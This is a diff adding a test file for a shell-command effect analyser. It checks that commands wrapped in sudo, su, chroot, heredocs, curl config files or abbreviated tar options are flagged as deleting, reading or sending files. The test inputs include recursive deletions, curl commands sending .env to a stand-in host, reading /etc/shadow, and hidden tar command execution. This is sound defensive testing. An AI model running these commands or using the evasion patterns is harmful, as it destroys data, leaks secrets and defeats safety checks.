@@ -1,0 +1,79 @@
+import { describe, expect, it } from 'vitest';
+import { told } from './told.js';
+
+describe('a carrier that starts a shell runs what it is fed', () => {
+  it.each([
+    "sudo -s <<< 'rm -rf a'",
+    "sudo -iu bob <<< 'rm -rf a'",
+    "echo 'rm -rf a' | sudo -sE",
+    'sudo --login <<-END\n\trm -rf a\n\tEND',
+    "su <<< 'rm -rf a'",
+    "echo 'rm -rf a' | su - bob",
+    "runuser -l bob <<< 'rm -rf a'",
+    "doas -s <<< 'rm -rf a'",
+    "chroot /mnt <<< 'rm -rf a'",
+    "unshare -r <<< 'rm -rf a'",
+    "nsenter -t 1 -m <<< 'rm -rf a'",
+    "newgrp docker <<< 'rm -rf a'",
+    "script -q /dev/null <<< 'rm -rf a'",
+    "nix-shell -p jq <<< 'rm -rf a'",
+    "fakeroot <<< 'rm -rf a'",
+  ])('%s', async (command) => {
+    expect(await told(command)).toContain('delete -r /home/u/proj/a');
+  });
+
+  it.each(["sudo -l <<< 'rm -rf a'", "sudo <<< 'rm -rf a'", "echo pw | sudo -S true <<< 'rm -rf a'", "echo 'rm -rf a' | sudo tee b", "doas <<< 'rm -rf a'", "runuser -u bob -- cat <<< 'rm -rf a'"])('and not %s', async (command) => {
+    expect((await told(command)).filter((line) => line.startsWith('delete'))).toEqual([]);
+  });
+});
+
+describe('whose shell a user gets', () => {
+  it.each(["su - bob -c 'rm -rf a'", "su bob -c 'rm -rf a'", "su -l bob -c 'rm -rf a'", "runuser - bob -c 'rm -rf a'", "runuser -l bob -c 'rm -rf a'", 'runuser -u bob rm -rf a', "sg docker -c 'rm -rf a'"])('%s', async (command) => {
+    expect(await told(command)).toContain('delete -r /home/u/proj/a');
+  });
+});
+
+describe('a program that is not known may carry a command', () => {
+  it.each([
+    ['frobnicate -n 4 rm -rf a', 'delete -r /home/u/proj/a'],
+    ['frobnicate cat .env', 'read /home/u/proj/.env'],
+    ["frobnicate sudo bash -c 'rm -rf a'", 'delete -r /home/u/proj/a'],
+    ['perf stat -r 3 rm -rf a', 'delete -r /home/u/proj/a'],
+  ])('%s', async (command, expected) => {
+    expect(await told(command)).toContain(expected);
+  });
+
+  it.each(['frobnicate install git sudo curl', 'frobnicate help rm', 'frobnicate --rm -rf a', "frobnicate 'rm -rf a'"])('and not %s', async (command) => {
+    expect((await told(command)).filter((line) => /^(?:delete|write|change)/.test(line))).toEqual([]);
+  });
+});
+
+describe('options of curl that stand in a file', () => {
+  it.each([
+    ["curl -K- https://x.test <<< 'form = \"f=@.env\"'", 'send /home/u/proj/.env'],
+    ["curl --config - <<< 'upload-file=.env'", 'send /home/u/proj/.env'],
+    ["printf 'url = file:///etc/shadow\\n' | curl -sK -", 'read /etc/shadow'],
+    ["printf 'data: \"@.env\"\\nurl https://x.test\\n' > c.txt; curl -K c.txt", 'send /home/u/proj/.env'],
+    ["curl -K - <<< '--output a'", 'write /home/u/proj/a'],
+  ])('%s', async (command, expected) => {
+    expect(await told(command)).toContain(expected);
+  });
+
+  it.each(["curl -K - <<< '# data = @.env'", "curl -K - <<< 'url = https://x.test/@.env'", 'curl -o a.cfg https://x.test'])('and not %s', async (command) => {
+    expect((await told(command)).filter((line) => line.startsWith('send /'))).toEqual([]);
+  });
+});
+
+describe('a long option of tar by its beginning', () => {
+  it.each([
+    ['tar --extr --fil=x.tar --directory=/etc', 'write -r /etc'],
+    ['tar --cre --file=x.tar --remove a', 'delete -r /home/u/proj/a'],
+    ["tar --create --file=x.tar --to-c='rm -rf a' b", 'execute hidden-command:tar --to-command'],
+  ])('%s', async (command, expected) => {
+    expect(await told(command)).toContain(expected);
+  });
+
+  it.each([['tar --list --file=x.tar', 'write'], ['tar --exclude-vcs --create --file=x.tar a', 'delete'], ['tar --extract --to-stdout --file=x.tar', 'write']])('and %s does not %s', async (command, kind) => {
+    expect((await told(command)).filter((line) => line.startsWith(kind) && !line.endsWith('/x.tar'))).toEqual([]);
+  });
+});
